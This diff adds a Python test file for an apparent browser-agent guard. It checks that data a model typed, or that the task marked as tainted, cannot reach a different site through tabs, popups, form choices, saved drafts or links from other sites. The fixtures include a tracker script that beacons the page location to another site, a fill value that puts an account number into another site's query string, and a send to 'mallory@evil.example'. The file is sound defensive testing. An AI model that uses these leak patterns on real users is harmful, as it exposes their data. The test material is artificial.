@@ -1,0 +1,144 @@
+"""What a model made up stays on the sites that the user opened, whatever tabs, choices or blanks carry it."""
+
+from __future__ import annotations
+
+from handrail import Session
+from tests.calls.test_pipeline_policy import as_model, refs
+from tests.pages import PageServer
+
+CODE = "DE89370400440532013000"
+
+
+async def opened(session: Session, serve: PageServer, page: str, task: str = "Look around") -> dict[str, str]:
+    """Refs by name of a page that the user opened, which may hold {elsewhere} for another site."""
+    session.provenance.words.add_text(task)
+    await session.call("goto", url=serve(page.replace("ELSEWHERE", serve.other_site)))
+    return await refs(session)
+
+
+def told(serve: PageServer) -> list[str]:
+    """What the other site was asked for."""
+    elsewhere = serve.other_site.partition("://")[2]
+    return [one.path for one in serve.requests if one.headers.get("host", one.headers.get("Host", "")) == elsewhere]
+
+
+def posted(serve: PageServer) -> list[bytes]:
+    return [one.body for one in serve.requests if one.method != "GET"]
+
+
+PREVIEW = (
+    """<input id=u aria-label=Address><button onclick="window.open(u.value || '/blank', 'preview')">Preview</button>"""
+)
+
+
+async def test_a_tainted_tab_leads_no_other_tab_away(session: Session, serve: PageServer):
+    serve("<title>Blank</title>", "/blank")
+    at = await opened(session, serve, PREVIEW)
+    assert await as_model(session, "click", ref=at["Preview"])
+    await session.call_as("model", "switch_tab", tab="t2")
+    await session.call_as("model", "scroll")
+    await session.call_as("model", "switch_tab", tab="t1")
+    await session.call_as("model", "fill", ref=at["Address"], value=f"{serve.other_site}/x?d={CODE}")
+    await session.call_as("model", "click", ref=at["Preview"])
+    assert told(serve) == []
+
+
+POPUP = """<form action=/found target=_blank><input name=q aria-label=Find><button>Go</button></form>"""
+TRACKER = "<title>Found</title><script>setInterval(() => { new Image().src = 'ELSEWHERE/t?' + location }, 100)</script>"
+
+
+async def test_a_tab_that_a_tainted_one_opened_is_confined_after_that_is_gone(session: Session, serve: PageServer):
+    serve(TRACKER.replace("ELSEWHERE", serve.other_site), "/found")
+    at = await opened(session, serve, POPUP)
+    await session.call_as("model", "fill", ref=at["Find"], value=CODE)
+    await session.call_as("model", "click", ref=at["Go"])
+    first = session.tab.url.raw
+    assert (await session.call_as("model", "goto", url=first)).ok
+    await session.call_as("model", "wait", seconds=0.5)
+    assert told(serve) == []
+    outside = await session.call_as("model", "goto", url=f"{serve.other_site}/linked")
+    assert not outside.ok
+
+
+async def test_blanks_arrow_keys_and_many_choices_are_a_text_of_the_model(session: Session, serve: PageServer):
+    page = """<form action=/found><input name=q type=search aria-label=Find><input type=number name=n aria-label=Count>
+    <select multiple name=s aria-label=Sizes><option>S<option>M<option>L</select><button>Go</button></form>"""
+    for tool, name, params in (
+        ("fill", "Find", {"value": "copper \u00a0  kettle"}),
+        ("send_keys", "Count", {"keys": ["ArrowUp"] * 3}),
+        ("select", "Sizes", {"values": ["S", "L"]}),
+    ):
+        at = await opened(session, serve, page, "Find a copper kettle")
+        assert not session.tab.core.taint.holds
+        assert await as_model(session, tool, ref=at[name], **params)
+        assert session.tab.core.taint.holds, tool
+
+
+async def test_a_value_of_the_data_that_is_searched_for_stays_on_the_site(session: Session, serve: PageServer):
+    page = """<form action=/found><input name=q type=search aria-label=Find><button>Go</button></form>
+    <form method=post action=/saved><input name=iban aria-label=Account></form>"""
+    at = await opened(session, serve, page)
+    session.provenance.words.add_data({"account": CODE})
+    assert await as_model(session, "fill", ref=at["Account"], value=CODE)
+    assert not session.tab.core.taint.holds
+    assert await as_model(session, "fill", ref=at["Find"], value=CODE)
+    assert session.tab.core.taint.holds
+
+
+MESSAGE = """<form method=post action=/sent><label><input type=radio name=to value=anna checked>Anna</label>
+<label><input type=radio name=to value=mallory>Mallory</label>
+<select name=cc aria-label=Copy><option>Nobody<option>Mallory</select>
+<input name=text aria-label=Text><button>Send</button></form>"""
+
+
+async def test_a_choice_is_the_models_however_it_is_made(session: Session, serve: PageServer):
+    task = "Send Anna the message 'Dinner at 8'"
+    for tool, name, params in (
+        ("click", "Mallory", {}),
+        ("send_keys", "Anna", {"keys": ["ArrowDown"]}),
+        ("send_keys", "Copy", {"keys": ["ArrowDown"]}),
+    ):
+        at = await opened(session, serve, MESSAGE, task)
+        assert await as_model(session, "fill", ref=at["Text"], value="Dinner at 8")
+        await session.call_as("model", tool, ref=at[name], **params)
+        assert not await as_model(session, "click", ref=at["Send"]), tool
+        session.state.unsent.clear()
+    assert posted(serve) == []
+    at = await opened(session, serve, MESSAGE, task)
+    assert await as_model(session, "fill", ref=at["Text"], value="Dinner at 8")
+    assert await as_model(session, "click", ref=at["Anna"])
+    assert await as_model(session, "click", ref=at["Send"])
+    assert posted(serve) == [b"to=anna&cc=Nobody&text=Dinner+at+8"]
+
+
+DRAFTS = """<input id=to aria-label=To><input id=text aria-label=Text><button onclick="go()">Send</button><script>
+for (const one of [to, text]) {
+  one.value = localStorage[one.id] || '';
+  one.oninput = () => { localStorage[one.id] = one.value };
+}
+const go = () => fetch('/sent', { method: 'POST', body: to.value + text.value });</script>"""
+
+
+async def test_a_draft_that_comes_back_is_still_the_models(session: Session, serve: PageServer):
+    at = await opened(session, serve, DRAFTS, "Send Anna the message 'Dinner at 8'")
+    await session.call_as("model", "fill", ref=at["To"], value="mallory@evil.example")
+    assert not await as_model(session, "click", ref=at["Send"])
+    url = session.tab.url.raw
+    assert (await session.call_as("model", "new_tab", url=url)).ok
+    assert not await as_model(session, "click", ref=(await refs(session))["Send"])
+    assert posted(serve) == []
+
+
+async def test_a_link_of_another_site_that_fills_in_a_page_is_asked_when_it_is_sent(
+    session: Session, serve: PageServer
+):
+    compose = """<form method=post action=/sent><input name=to id=to><button>Send</button></form>
+    <script>to.value = new URLSearchParams(location.search).get('to')</script>"""
+    there = serve(compose, "/compose") + "?to=mallory"
+    link = f"<a href='{there}'>Write</a>"
+    serve(link, "/elsewhere")
+    await opened(session, serve, f"<a href='{serve.other_site}/elsewhere'>Out</a>", "Read it, then click Send")
+    await session.call_as("model", "click", ref=(await refs(session))["Out"])
+    await session.call_as("model", "click", ref=(await refs(session))["Write"])
+    assert not await as_model(session, "click", ref=(await refs(session))["Send"])
+    assert posted(serve) == []
